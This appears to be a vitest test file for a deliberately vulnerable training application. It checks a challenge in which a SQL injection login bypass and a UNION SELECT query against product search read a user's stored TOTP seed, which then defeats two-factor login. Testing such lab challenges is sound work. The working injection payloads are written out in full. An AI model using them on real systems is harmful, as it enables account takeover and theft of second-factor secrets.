import { Secret, TOTP } from "otpauth";
import { beforeEach, describe, expect, it } from "vitest";
import { call, isSolved, login, resetInstance, tokenData } from "../support/instance";
import { persona } from "../support/seed";

const code = (secret: string) => new TOTP({ secret: Secret.fromBase32(secret), digits: 6, period: 30, algorithm: "SHA1" }).generate();
const verify = (tmpToken: string, totpToken: string) => call("/rest/2fa/verify", { method: "POST", json: { tmpToken, totpToken } });

describe("twoFactorAuthUnsafeSecretStorageChallenge: the second factor's seed is readable by injection", () => {
  beforeEach(resetInstance);

  it("an injection skips the password, a UNION reads the seed, and the code it makes is accepted", async () => {
    const email = persona("wurstbrot").email;
    const first = await login(`${email}'--`, "x");
    expect(first.status).toBe(401);
    const reply = await first.json();
    expect(reply.status).toBe("totp_token_required");

    const search = `qqq')) UNION SELECT id, email, totpSecret, 4, 5, 6, 7, 8, 9 FROM Users WHERE totpSecret != ''--`;
    const rows: { name: string; description: string }[] = (await (await call(`/rest/products/search?q=${encodeURIComponent(search)}`)).json()).data;
    const secret = rows.find((r) => r.name === email)!.description;

    const second = await verify(reply.data.tmpToken, code(secret));
    expect(second.status).toBe(200);
    expect(tokenData((await second.json()).authentication.token).email).toBe(email);
    expect(await isSolved("twoFactorAuthUnsafeSecretStorageChallenge")).toBe(true);
  });

  it("a wrong code, or a made-up temporary token, gets nobody in", async () => {
    const reply = await (await login(`${persona("wurstbrot").email}'--`, "x")).json();
    expect((await verify(reply.data.tmpToken, "000000")).status).toBe(401);
    expect((await verify("not-a-token", "123456")).status).toBe(401);
    expect((await verify(reply.data.tmpToken, "12ab56")).status).toBe(400);
    expect(await isSolved("twoFactorAuthUnsafeSecretStorageChallenge")).toBe(false);
  });
});
